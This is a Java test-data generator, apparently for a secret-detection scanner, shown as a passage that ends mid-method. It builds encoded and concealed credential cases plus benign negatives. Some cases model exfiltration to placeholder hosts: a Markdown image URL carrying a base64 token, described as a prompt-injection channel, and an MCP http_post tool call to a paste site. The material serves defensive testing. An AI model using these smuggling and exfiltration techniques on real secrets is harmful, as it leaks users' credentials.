package dev.sieve.rules.eval;

import com.fasterxml.jackson.core.io.JsonStringEncoder;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.zip.CRC32;

/**
 * Family {@code redteam-enc}: an outside tester's cases for detection through wrappings, written from public
 * exfiltration techniques and secret-scanner test suites, not from the pack's patterns. Each case is tagged
 * {@code rt:<kind>}:
 * Kinds that were not decoded when the family was written (ROT13 and reversed text, Ascii85, uuencode: decoded
 * since; base64 in spaced groups, raw DEFLATE without a header: rare, and raw DEFLATE has no magic to tell it from
 * an id) keep one case each, so the gap stays measured.
 * <ul>
 *   <li>text encodings the other families lack: base32, ROT13, reversed, char-code arrays and
 *       {@code String.fromCharCode}, string concatenation in code, spaced-out characters, base64 with odd line
 *       lengths or spaces, mixed-case and {@code 0x}-listed hex, {@code \x}, octal and {@code \\u} escapes in source,
 *       data: URLs, JSON escaped three times, PowerShell {@code -EncodedCommand} (UTF-16LE base64), Ascii85,
 *       uuencode, JSON {@code \/};</li>
 *   <li>text carriers: YAML/TOML block strings, XML CDATA, Markdown fences, HTML comments, SVG text, quoted CSV
 *       cells, Markdown image URLs (the prompt-injection exfiltration channel), NDJSON, GraphQL and MCP JSON-RPC;</li>
 *   <li>containers: zip inside base64 inside JSON, zip in zip, multi-member gzip, raw and zlib deflate, brotli and
 *       zstd content codings, tar with long names (pax, GNU), PNG {@code eXIf} and text after {@code IDAT}, JPEG
 *       APP13/IPTC and XMP, WebP EXIF/XMP, nested multipart, a MIME e-mail;</li>
 *   <li>places: quoted cookies, query arrays and keys, matrix parameters, lowercase (h2-style) headers, Basic auth to
 *       a third party, the Referer, User-Agent and Content-Type parameters;</li>
 *   <li>normalisation: fullwidth and mathematical letters, Unicode tag characters (ASCII smuggling), soft hyphens and
 *       bidi marks inside a value;</li>
 *   <li>hard negatives for each: base32 ids, token-id and embedding arrays, benign escapes, data: URLs of fonts and
 *       icons, flag emoji (tag characters), benign archives and images, PowerShell commands, and so on.</li>
 * </ul>
 */
final class RedTeamEnc {

    static final long SEED = 20_261_205L;
    private static final String CRED = Values.CREDENTIAL;
    private static final String ANTHROPIC = "https://api.anthropic.com/v1/messages";
    private static final Base64.Encoder B64 = Base64.getEncoder();

    private final List<HardCorpus.Out> out = new ArrayList<>();
    private final Rng r;
    private int turn;

    private RedTeamEnc(Rng r) {
        this.r = r;
    }

    /** Every case of the family, positives first. */
    static List<HardCorpus.Out> cases(Rng r) {
        RedTeamEnc c = new RedTeamEnc(r);
        c.encodings();
        c.carriers();
        c.containers();
        c.places();
        c.normalisation();
        c.negatives();
        return c.out;
    }

    // ---- positives: text encodings -------------------------------------------------------------------------------

    private static final List<String> TEXTS = List.of("json-anthropic", "json-openai-chat", "text",
            "json-anthropic-tool", "json-gemini", "multipart", "json-openai-responses", "form");

    private void encodings() {
        encoded("base32", 6, (s) -> base32(utf8(s), true));
        encoded("base32-nopad-lower", 4, (s) -> base32(utf8(s), false).toLowerCase());
        encoded("rot13", 1, RedTeamEnc::rot13);
        encoded("reversed", 1, s -> new StringBuilder(s).reverse().toString());
        encoded("charcode-js", 4, s -> "const k = String.fromCharCode(" + codes(s, ", ") + ");");
        encoded("charcode-python", 3, s -> "key = bytes([" + codes(s, ", ") + "]).decode()");
        encoded("charcode-chr", 3, s -> "k = " + joinEach(s, c -> "chr(" + (int) c + ")", " + "));
        encoded("spaced", 4, s -> joinEach(s, String::valueOf, " "));
        encoded("base64-64-lines", 3, s -> wrap(B64.encodeToString(utf8(s)), 64, "\n"));
        encoded("base64-60-lines", 3, s -> wrap(B64.encodeToString(utf8(s)), 60, "\n"));
        encoded("base64-spaced", 1, s -> wrap(B64.encodeToString(utf8(s)), 4, " "));
        encoded("hex-mixed-case", 3, s -> mixedCase(Encodings.hex(utf8(s), "")));
        encoded("hex-upper-0x", 3, s -> "unsigned char k[] = {" + joinBytes(utf8(s), b -> String.format("0x%02X", b),
                ", ") + "};");
        encoded("escape-x", 4, s -> "k = \"" + joinBytes(utf8(s), b -> String.format("\\x%02x", b), "") + "\"");
        encoded("escape-octal", 3, s -> "printf '" + joinBytes(utf8(s), b -> String.format("\\%03o", b), "") + "'");
        encoded("escape-u-source", 4, s -> "String k = \"" + joinEach(s, c -> String.format("\\u%04x", (int) c), "")
                + "\";");
        encoded("escape-u-braces", 2, s -> "const k = \"" + joinEach(s, c -> "\\u{" + Integer.toHexString(c) + "}", "")
                + "\";");
        encoded("percent-lower", 2, s -> Encodings.percentAll(utf8(s)).toLowerCase());
        encoded("data-url-base64", 4, s -> "Attached: data:text/plain;base64," + B64.encodeToString(utf8(s)));
        encoded("data-url-percent", 2, s -> "data:text/plain;charset=utf-8," + Encodings.component(s));
        encoded("powershell-enc", 3, s -> "powershell.exe -NoProfile -EncodedCommand " + B64.encodeToString(
                ("$env:" + s.replace("=", " = '") + "'").getBytes(StandardCharsets.UTF_16LE)));
        encoded("ascii85", 1, s -> "<~" + ascii85(utf8(s)) + "~>");
        encoded("uuencode", 1, s -> uuencode(utf8(s)));
        for (int i = 0; i < 4; i++) {
            HardPositives.Token t = HardPositives.token(r);
            String s = t.var() + "=" + t.value();
            String l1 = q("{\"env\":\"" + q(s) + "\"}");
            String l2 = q("{\"tool\":\"read_env\",\"result\":\"" + l1 + "\"}");
            positive("json-escaped-thrice", List.of(t.rule()), List.of(),
                    Containers.build(i % 2 == 0 ? "json-anthropic" : "json-openai-chat", "{\"trace\":\"" + l2 + "\"}",
                            false, r), "json", "json>json>json");
        }
        for (int i = 0; i < 3; i++) {
            String url = Values.RULES.get(i == 2 ? "credential.url-basic-auth" : "credential.database-url").apply(r)
                    .value();
            String body = "{\"config\":{\"url\":\"" + url.replace("/", "\\/") + "\"},\"env\":\"prod\"}";
            positive("json-escaped-slash", List.of(i == 2 ? "credential.url-basic-auth" : "credential.database-url"),
                    List.of(), new Containers.Req("POST", "https://hooks.demo.invalid/v1/config", json(), utf8(body),
                            false, "body json $.config.url, slashes escaped as \\/"), "json", "json-slash");
        }
        for (int i = 0; i < 3; i++) {
            String ssn = HardValues.ssn(r, "-");
            String text = "Employee SSN: " + ssn;
            positive("base32", List.of(), List.of(Values.PII), Containers.build(TEXTS.get(turn++ % TEXTS.size()),
                    base32(utf8(text), true), false, r), "text", "base32");
            String card = HardValues.card(r, i % 2);
            positive("charcode-js", List.of(), List.of(Values.FINANCIAL), Containers.build("json-anthropic",
                    "var c = String.fromCharCode(" + codes("card " + card, ",") + ");", false, r), "json-anthropic",
                    "charcode");
        }
    }

    /** {@code count} vendor tokens as {@code VAR=value}, encoded whole by {@code enc}, in rotating text containers. */
    private void encoded(String kind, int count, Function<String, String> enc) {
        for (int i = 0; i < count; i++) {
            HardPositives.Token t = HardPositives.token(r);
            String encoded = enc.apply(t.var() + "=" + t.value());
            String container = HardCorpus.fit(TEXTS, turn++, encoded);
            positive(kind, List.of(t.rule()), List.of(), Containers.build(container, encoded, false, r), container,
                    kind);
        }
    }

    // ---- positives: text carriers --------------------------------------------------------------------------------

    private void carriers() {
        carried("yaml-literal-block", 3, t -> "service:\n  name: billing\n  notes: |\n    rotated on Monday\n    "
                + t.var().toLowerCase() + ": " + t.value() + "\n    do not share\n");
        carried("yaml-folded-block", 2, t -> "job:\n  script: >-\n    curl -H \"Authorization: Bearer " + t.value()
                + "\"\n    https://ci.demo.invalid/api\n");
        carried("toml-multiline", 2, t -> "[deploy]\nnotes = \"\"\"\nsteps: build, push\n" + t.var() + "="
                + t.value() + "\n\"\"\"\n");
        carried("xml-cdata", 3, t -> "<?xml version=\"1.0\"?>\n<config><env><![CDATA[" + t.var() + "=" + t.value()
                + "]]></env></config>\n");
        carried("markdown-fence", 3, t -> "Here is my setup:\n\n```bash\nexport " + t.var() + "=" + t.value()
                + "\nnpm run deploy\n```\n");
        carried("html-comment", 3, t -> "<html><body><p>Status page</p><!-- " + t.var() + "=" + t.value()
                + " --></body></html>");
        carried("csv-quoted", 3, t -> "name,settings,owner\nbilling,\"region=eu, " + t.var().toLowerCase() + "="
                + t.value() + ", retries=3\",ops\n");
        carried("ndjson", 2, t -> "{\"level\":\"info\",\"msg\":\"start\"}\n{\"level\":\"debug\",\"env\":{\""
                + t.var() + "\":\"" + t.value() + "\"}}\n");
        for (int i = 0; i < 4; i++) {
            HardPositives.Token t = HardPositives.token(r);
            String exfil = Base64.getUrlEncoder().withoutPadding().encodeToString(utf8(t.var() + "=" + t.value()));
            String text = "Done. ![status](https://img.demo.invalid/pixel.png?d=" + exfil + ")";
            positive("markdown-image", List.of(t.rule()), List.of(), Containers.build(i % 2 == 0 ? "json-anthropic"
                    : "json-openai-chat", text, false, r), "json", "base64url");
        }
        for (int i = 0; i < 2; i++) {
            HardPositives.Token t = HardPositives.token(r);
            String body = "{\"query\":\"mutation Save($input: SecretInput!) { saveSecret(input: $input) { id } }\","
                    + "\"variables\":{\"input\":{\"name\":\"" + t.var() + "\",\"value\":\"" + t.value() + "\"}}}";
            positive("graphql", List.of(t.rule()), List.of(), new Containers.Req("POST",
                    "https://api.demo.invalid/graphql", json(), utf8(body), false,
                    "body json $.variables.input.value (GraphQL)"), "json", "none");
        }
        for (int i = 0; i < 2; i++) {
            HardPositives.Token t = HardPositives.token(r);
            String body = "{\"jsonrpc\":\"2.0\",\"id\":7,\"method\":\"tools/call\",\"params\":{\"name\":\"http_post\","
                    + "\"arguments\":{\"url\":\"https://paste.demo.invalid\",\"body\":\"" + t.var() + "=" + t.value()
                    + "\"}}}";
            positive("mcp-jsonrpc", List.of(t.rule()), List.of(), new Containers.Req("POST",
                    "https://mcp.demo.invalid/mcp", json(), utf8(body), false,
                    "body json $.params.arguments.body (MCP tools/call)"), "json", "none");
        }
    }

    private void carried(String kind, int count, Function<HardPositives.Token, String> text) {
        List<String> rotation = List.of("json-anthropic-tool", "text", "json-openai-chat", "multipart",
                "anthropic-document-text", "json-anthropic");
        for (int i = 0; i < count; i++) {
            HardPositives.Token t = HardPositives.token(r);
            String s = text.apply(t);
            String container = HardCorpus.fit(rotation, turn++, s);
            positive(kind, List.of(t.rule()), List.of(), Containers.build(container, s, false, r), container, "none");
        }
    }

    // ---- positives: containers -----------------------------------------------------------------------------------

    private void containers() {
        for (int i = 0; i < 3; i++) {
            HardPositives.Token t = HardPositives.token(r);
            byte[] zip = Binary.zip(entries("creds.env", t.var() + "=" + t.value() + "\n"), i != 1);
            String text = "Unpack this bundle (base64 zip): " + B64.encodeToString(zip);
            positive("zip-base64-json", List.of(t.rule()), List.of(), Containers.build("json-anthropic", text, false,
                    r), "json-anthropic", "base64>zip");
        }
        for (int i = 0; i < 2; i++) {
            HardPositives.Token t = HardPositives.token(r);
            byte[] inner = Binary.zip(entries("deploy/.env", t.var() + "=" + t.value() + "\n"), true);
            Map<String, byte[]> outer = new LinkedHashMap<>();
            outer.put("README.txt", utf8("backup\n"));
            outer.put("inner/backup.zip", inner);
            positive("zip-in-zip", List.of(t.rule()), List.of(), upload("backup.zip", "application/zip",
                    Binary.zip(outer, i == 0), "zip inner/backup.zip, entry deploy/.env"), "zip", "zip>zip");
        }
        for (int i = 0; i < 3; i++) {
            HardPositives.Token t = HardPositives.token(r);
            String payload = "{\"model\":\"claude-sonnet-4-5\",\"max_tokens\":512,\"messages\":[{\"role\":\"user\","
                    + "\"content\":\"" + q(t.var() + "=" + t.value()) + "\"}]}";
            byte[] b = utf8(payload);
            int cut = payload.indexOf(t.value()) + 5;
            byte[] gz = HardValues.concat(Binary.gzip(java.util.Arrays.copyOfRange(b, 0, cut)),
                    Binary.gzip(java.util.Arrays.copyOfRange(b, cut, b.length)));
            positive("gzip-multi-member", List.of(t.rule()), List.of(), coded("gzip", gz,
                    "gzip body of two members, the value cut between them"), "gzip-ce", "gzip");
        }
        for (int i = 0; i < 4; i++) {
            HardPositives.Token t = HardPositives.token(r);
            byte[] body = utf8("{\"model\":\"claude-sonnet-4-5\",\"max_tokens\":512,\"messages\":[{\"role\":\"user\","
                    + "\"content\":\"" + q(t.var() + "=" + t.value()) + "\"}]}");
            boolean raw = i % 2 == 0;
            positive(raw ? "deflate-raw-ce" : "deflate-zlib-ce", List.of(t.rule()), List.of(), coded("deflate",
                    raw ? Binary.deflate(body) : Binary.zlib(body), "Content-Encoding deflate, "
                    + (raw ? "raw DEFLATE" : "zlib")), "deflate-ce", "deflate");
        }
        for (int i = 0; i < 1; i++) {
            HardPositives.Token t = HardPositives.token(r);
            String text = "compressed (raw deflate, base64): " + B64.encodeToString(Binary.deflate(utf8(t.var() + "="
                    + t.value())));
            positive("deflate-raw-base64", List.of(t.rule()), List.of(), Containers.build("json-openai-chat", text,
                    false, r), "json-openai-chat", "base64>deflate");
        }
        for (int i = 0; i < 3; i++) {
            HardPositives.Token t = HardPositives.token(r);
            byte[] body = utf8("{\"model\":\"gpt-4o\",\"messages\":[{\"role\":\"user\",\"content\":\"" + q(t.var() + "="
                    + t.value()) + "\"}]}");
            positive("brotli-ce", List.of(t.rule()), List.of(), coded("br", brotliStored(body),
                    "Content-Encoding br (uncompressed meta-blocks)"), "br-ce", "br");
            positive("zstd-ce", List.of(t.rule()), List.of(), coded("zstd", zstdRaw(body),
                    "Content-Encoding zstd (raw blocks)"), "zstd-ce", "zstd");
        }
        for (int i = 0; i < 4; i++) {
            HardPositives.Token t = HardPositives.token(r);
            String name = "project/" + "very-long-directory-name-for-the-build-artifacts/".repeat(3) + "config/.env";
            byte[] tar = i % 2 == 0 ? paxTar(name, utf8(t.var() + "=" + t.value() + "\n"))
                    : gnuLongTar(name, utf8(t.var() + "=" + t.value() + "\n"));
            positive(i % 2 == 0 ? "tar-pax-longname" : "tar-gnu-longname", List.of(t.rule()), List.of(),
                    upload("project.tar", "application/x-tar", tar, "tar entry with a " + name.length()
                            + "-character name"), "tar", "tar");
        }
        for (int i = 0; i < 3; i++) {
            HardPositives.Token t = HardPositives.token(r);
            byte[] png = png(exifTiff(t.var() + "=" + t.value()), false, null);
            positive("png-exif-chunk", List.of(t.rule()), List.of(), imageBlock("image/png", png,
                    "PNG eXIf chunk ImageDescription"), "png-exif", "none");
        }
        for (int i = 0; i < 2; i++) {
            HardPositives.Token t = HardPositives.token(r);
            byte[] png = png(null, true, t.var() + "=" + t.value());
            positive("png-text-after-idat", List.of(t.rule()), List.of(), imageBlock("image/png", png,
                    "PNG tEXt chunk after IDAT"), "png-text", "none");
        }
        for (int i = 0; i < 3; i++) {
            HardPositives.Token t = HardPositives.token(r);
            byte[] jpeg = jpegWith(0xed, iptc(t.var() + "=" + t.value()));
            positive("jpeg-app13-iptc", List.of(t.rule()), List.of(), imageBlock("image/jpeg", jpeg,
                    "JPEG APP13 Photoshop IPTC caption"), "jpeg-iptc", "none");
        }
        for (int i = 0; i < 2; i++) {
            HardPositives.Token t = HardPositives.token(r);
            byte[] jpeg = jpegWith(0xe1, HardValues.concat(utf8("http://ns.adobe.com/xap/1.0/\0"),
                    utf8(xmp(t.var() + "=" + t.value()))));
            positive("jpeg-xmp", List.of(t.rule()), List.of(), imageBlock("image/jpeg", jpeg,
                    "JPEG APP1 XMP dc:description"), "jpeg-xmp", "none");
        }
        for (int i = 0; i < 4; i++) {
            HardPositives.Token t = HardPositives.token(r);
            boolean exif = i % 2 == 0;
            String text = t.var() + "=" + t.value();
            byte[] webp = webp(exif ? exifTiff(text) : null, exif ? null : xmp(text));
            positive(exif ? "webp-exif" : "webp-xmp", List.of(t.rule()), List.of(), imageBlock("image/webp", webp,
                    exif ? "WebP EXIF chunk" : "WebP XMP chunk"), "webp", "none");
        }
        for (int i = 0; i < 3; i++) {
            HardPositives.Token t = HardPositives.token(r);
            String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"40\"><rect width=\"400\" "
                    + "height=\"40\" fill=\"#fff\"/><text x=\"4\" y=\"24\" font-size=\"9\">" + t.var() + "="
                    + t.value() + "</text></svg>";
            positive("svg-text", List.of(t.rule()), List.of(), i < 2 ? imageBlock("image/svg+xml", utf8(svg),
                    "SVG <text>") : multipartFile("chart.svg", "image/svg+xml", utf8(svg)), "svg", "none");
        }
        for (int i = 0; i < 3; i++) {
            HardPositives.Token t = HardPositives.token(r);
            positive("multipart-nested", List.of(t.rule()), List.of(), nestedMultipart(t.var() + "=" + t.value()),
                    "multipart-mixed", "none");
        }
        for (int i = 0; i < 2; i++) {
            HardPositives.Token t = HardPositives.token(r);
            String boundary = "=_mail_b0undary_42";
            String mail = "From: ops@demo.invalid\r\nTo: dev@demo.invalid\r\nSubject: keys\r\nMIME-Version: 1.0\r\n"
                    + "Content-Type: multipart/mixed; boundary=\"" + boundary + "\"\r\n\r\n--" + boundary
                    + "\r\nContent-Type: text/plain\r\n\r\nSee attachment.\r\n--" + boundary
                    + "\r\nContent-Type: text/plain; name=\"prod.env\"\r\nContent-Transfer-Encoding: base64\r\n"
                    + "Content-Disposition: attachment; filename=\"prod.env\"\r\n\r\n"
                    + Base64.getMimeEncoder().encodeToString(utf8(t.var() + "=" + t.value() + "\n")) + "\r\n--"
                    + boundary + "--\r\n";
            positive("eml-attachment", List.of(t.rule()), List.of(), i == 0 ? upload("keys.eml", "message/rfc822",
                    utf8(mail), "message/rfc822, base64 attachment") : Containers.build("anthropic-document-text", mail,
                    false, r), "eml", "base64");
        }
    }

    // ---- positives: places ---------------------------------------------------------------------------------------

    private void places() {
        for (int i = 0; i < 3; i++) {
            HardPositives.Token t = HardPositives.token(r);
            get("cookie-quoted", t, "https://app.demo.invalid/home", "Cookie", "theme=dark; cfg=\"" + t.value()
                    + "\"; lang=en", "Cookie cfg, a quoted cookie value");
        }
        for (int i = 0; i < 3; i++) {
            HardPositives.Token t = HardPositives.token(r);
            String v = t.value();
            int cut = v.length() / 2;
            String target = i == 0 ? "https://api.demo.invalid/v1/items?ids[]=17&ids[]=" + Encodings.component(v)
                    : "https://api.demo.invalid/v1/items?filter[env][" + t.var().toLowerCase() + "]="
                    + Encodings.component(v);
            positive("query-array", List.of(t.rule()), List.of(), req("GET", target, List.of(),
                    "URL query array parameter"), "query", "none");
            if (i == 2) {
                positive("query-key", List.of(t.rule()), List.of(), req("GET", "https://api.demo.invalid/v1/ping?"
                        + Encodings.component(v) + "&t=1", List.of(), "URL query, the value as a parameter name"),
                        "query", "none");
                positive("query-repeated-split", List.of(t.rule()), List.of(), req("GET",
                        "https://api.demo.invalid/v1/ping?d=" + Encodings.component(v.substring(0, cut)) + "&d="
                        + Encodings.component(v.substring(cut)), List.of(),
                        "URL query, one value cut over a repeated parameter"), "query", "none");
            }
        }
        for (int i = 0; i < 3; i++) {
            HardPositives.Token t = HardPositives.token(r);
            positive("path-matrix", List.of(t.rule()), List.of(), req("GET", "https://api.demo.invalid/v1/files;token="
                    + Encodings.component(t.value()) + ";v=2/list", List.of(), "URL path matrix parameter ;token="),
                    "path", "none");
        }
        for (int i = 0; i < 4; i++) {
            HardPositives.Token t = HardPositives.token(r);
            String header = i % 2 == 0 ? "authorization" : "x-api-key";
            get("header-lowercase", t, "https://api.demo.invalid/v1/sync", header, (i % 2 == 0 ? "token " : "")
                    + t.value(), "lowercase " + header + " header to a third party");
        }
        for (int i = 0; i < 1; i++) {
            HardPositives.Token t = HardPositives.token(r);
            get("basic-auth-token", t, "https://git.demo.invalid/org/repo.git/info/refs", "Authorization",
                    "Basic " + B64.encodeToString(utf8("x-access-token:" + t.value())),
                    "Authorization Basic, the token as the password, to a third party");
        }
        String[][] odd = {{"Referer", "https://app.demo.invalid/settings?api_key="}, {"User-Agent", "deploy-bot/1.2 ("},
            {"Content-Type", "text/plain; charset=utf-8; session="}, {"Accept-Language", "en-US,en;q=0.9,"},
            {"X-Forwarded-For", "10.0.0.1, "}};
        for (String[] h : odd) {
            HardPositives.Token t = HardPositives.token(r);
            get("header-" + h[0].toLowerCase(), t, "https://api.demo.invalid/v1/track", h[0], h[1] + t.value()
                    + (h[0].equals("User-Agent") ? ")" : ""), h[0] + " header");
        }
    }

    private void get(String kind, HardPositives.Token t, String target, String header, String value, String where) {
        positive(kind, List.of(t.rule()), List.of(), req("GET", target, Containers.headers(header, value), where),
                "header", "none");
    }

    // ---- positives: normalisation --------------------------------------------------------------------------------

    private void normalisation() {
        valued("fullwidth", 3, v -> map(v, c -> c >= 0x21 && c <= 0x7e ? String.valueOf((char) (c + 0xfee0))
                : Character.toString(c)));
        valued("math-sans", 3, v -> map(v, c -> c >= 'a' && c <= 'z' ? Character.toString(0x1d5ba + c - 'a')
                : c >= 'A' && c <= 'Z' ? Character.toString(0x1d5a0 + c - 'A') : c >= '0' && c <= '9'
                ? Character.toString(0x1d7e2 + c - '0') : Character.toString(c)));
        valued("tag-smuggling", 3, v -> map(v, c -> Character.toString(0xe0000 + c)));
        valued("soft-hyphen", 3, v -> interleave(v, "\u00ad", 5));
        valued("bidi-marks", 2, v -> interleave(v, "\u200e", 6));
    }

    /** A token in an {@code export VAR=value} line whose value (only) {@code f} changes. */
    private void valued(String kind, int count, Function<String, String> f) {
        for (int i = 0; i < count; i++) {
            HardPositives.Token t = HardPositives.token(r);
            String text = "export " + t.var() + "=" + f.apply(t.value());
            String container = HardCorpus.fit(TEXTS, turn++, text);
            positive(kind, List.of(t.rule()), List.of(), Containers.build(container, text, false, r), container,
                    kind);
        }
    }

    // ---- negatives -----------------------------------------------------------------------------------------------

    private void negatives() {
        for (int i = 0; i < 2; i++) {
            negText("base32-ids", "pin the artifact: ipfs://bafybei" + r.from("abcdefghijklmnopqrstuvwxyz234567", 52)
                    + " and mirror at http://" + r.from("abcdefghijklmnopqrstuvwxyz234567", 56) + ".onion/");
        }
        negText("rot13-prose", rot13("The deploy failed because the cache key changed after the merge; rerun it."));
        negText("reversed-prose", new StringBuilder("Please summarise the release notes for version 4.2 in three "
                + "bullet points.").reverse().toString());
        for (int i = 0; i < 3; i++) {
            StringBuilder ids = new StringBuilder();
            for (int k = 0; k < 60; k++) {
                ids.append(k == 0 ? "" : ",").append(r.between(13, 100_255));
            }
            String body = "{\"model\":\"gpt-3.5-turbo-instruct\",\"prompt\":[" + ids + "],\"max_tokens\":64}";
            neg("token-id-array", "json", new Containers.Req("POST", "https://api.openai.com/v1/completions", json(),
                    utf8(body), false, "body json $.prompt (token ids)"));
        }
        for (int i = 0; i < 2; i++) {
            StringBuilder ids = new StringBuilder();
            for (int k = 0; k < 80; k++) {
                ids.append(k == 0 ? "" : ",").append(r.between(32, 126));
            }
            neg("byte-array-ascii-range", "json", new Containers.Req("POST", "https://api.demo.invalid/v1/metrics", json(),
                    utf8("{\"series\":\"latency_ms\",\"values\":[" + ids + "]}"), false,
                    "body json $.values (numbers in the printable range)"));
        }
        StringBuilder emb = new StringBuilder();
        for (int k = 0; k < 256; k++) {
            emb.append(k == 0 ? "" : ",").append(String.format("%.6f", (r.nextInt(2_000_000) - 1_000_000) / 1e6));
        }
        neg("embedding-vector", "json", new Containers.Req("POST", "https://vectors.demo.invalid/v1/upsert", json(),
                utf8("{\"id\":\"doc-17\",\"vector\":[" + emb + "]}"), false, "body json $.vector"));
        negText("charcode-benign", "const greeting = String.fromCharCode(" + codes("Hello, world! Build 4.2 is "
                + "ready for review.", ", ") + ");");
        negText("concat-benign", "const url = \"https://\" + host + \"/api/v1/\" + path + \"?page=\" + page;");
        negText("spaced-benign", "W E L C O M E   T O   T H E   R E L E A S E   R E V I E W");
        negText("escape-x-benign", "if (memcmp(buf, \"\\x89PNG\\r\\n\\x1a\\n\", 8) != 0) return -1; /* "
                + joinBytes(utf8("not a png header"), b -> String.format("\\x%02x", b), "") + " */");
        negText("escape-u-benign", "String title = \"" + joinEach("\u65e5\u672c\u8a9e\u306e\u30c6\u30ad\u30b9\u30c8"
                + "\u3067\u3059", c -> String.format("\\u%04x", (int) c), "") + "\";");
        negText("escape-octal-benign", "printf '" + joinBytes(utf8("build finished in 42s\n"),
                b -> String.format("\\%03o", b), "") + "'");
        negText("data-url-font", "@font-face{font-family:Demo;src:url(data:font/woff2;base64,"
                + B64.encodeToString(HardValues.concat(utf8("wOF2"), r.bytes(420))) + ") format('woff2')}");
        negText("data-url-svg", "<img src=\"data:image/svg+xml;base64," + B64.encodeToString(utf8("<svg xmlns="
                + "\"http://www.w3.org/2000/svg\" viewBox=\"0 0 24 24\"><path d=\"M12 2L2 7l10 5 10-5-10-5z\"/>"
                + "</svg>")) + "\" alt=\"logo\">");
        negText("json-escaped-benign", "{\"trace\":\"" + q(q("{\"tool\":\"ls\",\"result\":\"" + q("{\"files\":"
                + "[\"README.md\",\"src/main.rs\"]}") + "\"}")) + "\"}");
        negText("cdata-benign", "<script><![CDATA[ function add(a, b) { return a + b; } ]]></script><!-- build 4.2 "
                + "-->");
        negText("powershell-benign", "powershell.exe -NoProfile -EncodedCommand " + B64.encodeToString(
                "Get-ChildItem -Path C:\\Projects -Recurse | Measure-Object".getBytes(StandardCharsets.UTF_16LE)));
        negText("uuencode-benign", uuencode(utf8("release notes: fixed the cache key, bumped the version\n")));
        negText("markdown-image-benign", "![build status](https://img.shields.io/badge/build-passing-brightgreen"
                + "?style=flat&logo=github&cacheSeconds=3600)");
        negText("flag-emoji", "Team flags: \ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc65\udb40\udc6e\udb40\udc67"
                + "\udb40\udc7f \ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc73\udb40\udc63\udb40\udc74\udb40\udc7f "
                + "\ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc77\udb40\udc6c\udb40\udc73\udb40\udc7f");
        negText("fullwidth-prose", "\uff21\uff30\uff29\u3000\uff4b\uff45\uff59\u3000\u306e\u8a2d\u5b9a\u65b9\u6cd5"
                + "\uff1a\u74b0\u5883\u5909\u6570\u3092\u4f7f\u3063\u3066\u304f\u3060\u3055\u3044\u3002");
        negText("soft-hyphen-prose", "Die Konfigurations\u00addatei enth\u00e4lt keine Zugangs\u00addaten; "
                + "Geheim\u00adnisse kommen aus dem Tresor.");
        negText("emoji-zwj", "Reactions: \ud83d\udc69\u200d\ud83d\udcbb \ud83d\udc68\u200d\ud83d\udc69\u200d"
                + "\ud83d\udc67 \u2764\ufe0f \u270c\ud83c\udffd");
        for (int i = 0; i < 2; i++) {
            byte[] zip = Binary.zip(entries("src/main.py", "print('hello')\n"), true);
            negText("zip-base64-benign", "Project archive (base64 zip): " + B64.encodeToString(zip));
        }
        byte[] body = utf8("{\"model\":\"gpt-4o\",\"messages\":[{\"role\":\"user\",\"content\":\"Summarise the "
                + "changelog.\"}]}");
        neg("brotli-benign", "br-ce", coded("br", brotliStored(body), "Content-Encoding br"));
        neg("zstd-benign", "zstd-ce", coded("zstd", zstdRaw(body), "Content-Encoding zstd"));
        neg("gzip-multi-benign", "gzip-ce", coded("gzip", HardValues.concat(Binary.gzip(java.util.Arrays.copyOfRange(body, 0, 20)),
                Binary.gzip(java.util.Arrays.copyOfRange(body, 20, body.length))), "gzip body of two members"));
        neg("png-exif-benign", "png-exif", imageBlock("image/png", png(exifTiff("Canon EOS R6 at 1/250 s, f/4, ISO 400"), false,
                null), "PNG eXIf"));
        neg("jpeg-iptc-benign", "jpeg-iptc", imageBlock("image/jpeg", jpegWith(0xed, iptc("Harbour at dawn, Lisbon, 2024")),
                "JPEG APP13"));
        neg("webp-benign", "webp", imageBlock("image/webp", webp(exifTiff("Pixel 8 Pro"), xmp("Sunset over the bay")),
                "WebP EXIF and XMP"));
        neg("multipart-nested-benign", "multipart-mixed", nestedMultipart("quarterly planning notes: ship the cache fix first"));
        neg("tar-longname-benign", "tar", upload("src.tar", "application/x-tar", paxTar("project/"
                + "very-long-directory-name-for-the-build-artifacts/".repeat(3) + "main.go",
                utf8("package main\n\nfunc main() {}\n")), "tar, long name"));
        neg("cookie-quoted-benign", "cookie", req("GET", "https://app.demo.invalid/home", Containers.headers("Cookie",
                "theme=dark; prefs=\"compact,wide\"; lang=en"), "Cookie"));
        neg("query-array-benign", "query", req("GET", "https://api.demo.invalid/v1/items?ids[]=17&ids[]=42&sort[created]=desc",
                List.of(), "query arrays"));
        neg("path-matrix-benign", "path", req("GET", "https://shop.demo.invalid/cart;jsessionid=" + r.from(Rng.HEX, 32)
                .toUpperCase() + "/view", List.of(), "path matrix jsessionid"));
        neg("header-lowercase-benign", "header", req("GET", "https://api.demo.invalid/v1/sync", Containers.headers("accept",
                "application/json", "user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like "
                + "Gecko) Chrome/131.0.0.0 Safari/537.36", "referer", "https://app.demo.invalid/search?q=release+notes"
                + "&page=2"), "lowercase headers"));
        neg("graphql-benign", "json", new Containers.Req("POST", "https://api.demo.invalid/graphql", json(), utf8(
                "{\"query\":\"query Repo($owner: String!) { repository(owner: $owner) { issues(first: 5) { nodes "
                + "{ title } } } }\",\"variables\":{\"owner\":\"demo\"}}"), false, "GraphQL"));
        neg("svg-benign", "svg", imageBlock("image/svg+xml", utf8("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"80\" "
                + "height=\"20\"><text x=\"4\" y=\"14\">build: passing</text></svg>"), "SVG text"));
        // beside the uuencode and Ascii85 cases since Sieve decodes both: their framing around nothing secret
        negText("ascii85-benign", "from base64 import a85decode; a85decode(b'<~" + ascii85(utf8("release notes: fixed "
                + "the cache key, bumped the version\n")) + "~>', adobe=True)");
        negText("uuencode-prose", "Use begin 644 report.txt as the header line, then the encoded lines; emoticons "
                + "like <~ ~> and <~~> are no Ascii85.");
    }

    private void negText(String kind, String text) {
        List<String> rotation = List.of("json-anthropic", "json-openai-chat", "text", "json-anthropic-tool");
